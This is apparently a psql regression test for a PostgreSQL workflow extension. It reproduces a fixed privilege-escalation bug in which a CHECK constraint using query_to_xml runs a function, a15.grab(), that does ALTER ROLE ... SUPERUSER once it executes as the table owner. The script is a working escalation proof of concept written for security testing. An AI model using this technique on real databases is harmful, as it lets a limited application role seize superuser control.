-- attack15 01 (high, fixed): the owner-write check trusts every built-in
-- function, but query_to_xml / table_to_xml / cursor_to_xml / ts_stat /
-- ts_rewrite(tsquery, text) (and their siblings) run a query given as text,
-- or read a view by name, with the caller's rights.  A CHECK, default,
-- index expression or trigger WHEN clause of such a function on
-- stage_visit_row passes the check, and the application role's function in
-- its query runs as the tables' owner on every move: here the application
-- role makes itself a superuser.  Before the fix: the move succeeds and
-- rolsuper is t; after it: 55000 owner_write_blocked
-- {"table": "stage_visit_row", "kind": "check constraint", "name": "a15_xml_check"}.
-- Run as a superuser in a scratch database:  psql -d scratch -f this_file
-- (full version, also a default by ts_rewrite and a WHEN by table_to_xml of
-- a view: test/sql/attack15.sql section 1).
\set ON_ERROR_STOP 0
CREATE EXTENSION IF NOT EXISTS workflow_ext;
\i test/sql/include/app_grants.psql
CREATE ROLE a15_app;
GRANT workflow_app TO a15_app;
CREATE SCHEMA a15 AUTHORIZATION a15_app;
SET ROLE a15_app;
CREATE FUNCTION a15.grab() RETURNS boolean LANGUAGE plpgsql AS $f$
BEGIN
    IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE a15_app SUPERUSER;
    END IF;
    RETURN true;
END $f$;
SET workflow_ext.tenant = 'org:a15';
SET workflow_ext.actor = 'user:a';
INSERT INTO workflow (name) VALUES ('a15') RETURNING id AS wf \gset
INSERT INTO workflow_stage (workflow_id, name, position) SELECT :wf, 's' || i, i FROM generate_series(1, 3) i;
SELECT count(*) FROM assign_workflow(80, :wf);
SELECT count(*) FROM add_candidate(1, 80);
RESET ROLE;
-- the owner's CHECK: only built-in functions by the check's rule
ALTER TABLE stage_visit_row ADD CONSTRAINT a15_xml_check
    CHECK (query_to_xml('SELECT a15.grab()', false, false, '') IS NOT NULL) NOT VALID;
SET ROLE a15_app;
SELECT count(*) FROM move_to_next_stage(1, 80);
RESET ROLE;
SELECT rolsuper AS app_is_superuser FROM pg_roles WHERE rolname = 'a15_app';
